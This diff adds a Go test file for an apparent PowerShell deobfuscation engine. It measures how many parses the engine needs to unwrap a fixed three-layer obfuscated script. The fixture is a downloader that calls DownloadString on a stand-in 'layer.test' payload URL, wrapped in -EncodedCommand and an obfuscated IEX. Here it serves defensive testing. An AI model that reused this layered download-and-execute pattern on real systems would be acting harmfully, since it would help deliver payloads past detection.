@@ -1,0 +1,94 @@
+package core
+
+import (
+	"encoding/base64"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
+)
+
+// encodeUTF16LEBase64 encodes a script the way PowerShell's
+// -EncodedCommand expects: UTF-16LE bytes, then standard base64.
+func encodeUTF16LEBase64(s string) string {
+	buf := make([]byte, 0, len(s)*2)
+	for _, r := range s {
+		if r > 0xFFFF {
+			r = '?'
+		}
+		buf = append(buf, byte(r), byte(r>>8))
+	}
+	return base64.StdEncoding.EncodeToString(buf)
+}
+
+// threeLayerScript builds a fixed 3-layer obfuscated script: an inner
+// downloader wrapped in powershell -EncodedCommand, wrapped in a
+// string-concat IEX, wrapped in another -EncodedCommand. Every layer
+// forces the engine through token parsing, recovery, and unwrap.
+func threeLayerScript() string {
+	inner := "$u = 'http://layer.test/payload.ps1'\n" +
+		"(New-Object Net.WebClient).DownloadString($u)\n"
+	layer2 := "powershell -EncodedCommand " + encodeUTF16LEBase64(inner)
+	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
+	return "powershell -enc " + encodeUTF16LEBase64(layer1) + "\n"
+}
+
+// parseBudget is the ceiling on full psparser.Parse invocations for one
+// default-options run over threeLayerScript. The budget sits between
+// the pipeline engine's measured count and half the pre-refactor cost,
+// so any reintroduction of per-splice full reparses fails loudly.
+const parseBudget = 27
+
+// preRefactorParseCount is the measured parse count of the seed engine
+// (PR 1, pre-pipeline) on threeLayerScript, recorded before the
+// refactor. Kept as a constant so the ≥2× amortization claim stays
+// checkable.
+const preRefactorParseCount = 55
+
+func TestParseCountBudget(t *testing.T) {
+	script := threeLayerScript()
+	d := New(Options{})
+	// Warm-up run outside the measurement so one-time costs don't skew.
+	if _, err := d.Deobfuscate(script); err != nil {
+		t.Fatalf("warm-up: %v", err)
+	}
+	before := psparser.ParseCalls()
+	res, err := d.Deobfuscate(script)
+	after := psparser.ParseCalls()
+	if err != nil {
+		t.Fatalf("Deobfuscate: %v", err)
+	}
+	if !strings.Contains(res.Script, "http://layer.test/payload.ps1") {
+		t.Fatalf("3-layer script not recovered:\n%s", res.Script)
+	}
+	parses := after - before
+	t.Logf("parses per run: %d (pre-refactor engine: %d)", parses, preRefactorParseCount)
+	if parses > parseBudget {
+		t.Errorf("parse amortization regressed: %d parses per run, budget %d "+
+			"(someone reintroduced per-splice full reparses?)", parses, parseBudget)
+	}
+	if parses*2 > preRefactorParseCount {
+		t.Errorf("parse count %d is not ≥2× below the pre-refactor engine's %d",
+			parses, preRefactorParseCount)
+	}
+}
+
+// TestParseCountReportsAllInputs prints (verbose mode) the per-input
+// parse counts over the equivalence corpus — a quick profiling aid, not
+// an assertion.
+func TestParseCountReportsAllInputs(t *testing.T) {
+	if testing.Short() {
+		t.Skip("profiling aid")
+	}
+	d := New(Options{})
+	var total int64
+	for i, s := range equivalenceCorpus() {
+		before := psparser.ParseCalls()
+		if _, err := d.Deobfuscate(s.Source); err != nil {
+			t.Fatalf("corpus_%02d: %v", i, err)
+		}
+		total += psparser.ParseCalls() - before
+	}
+	t.Log(fmt.Sprintf("total parses across %d corpus scripts: %d", len(equivalenceCorpus()), total))
+}
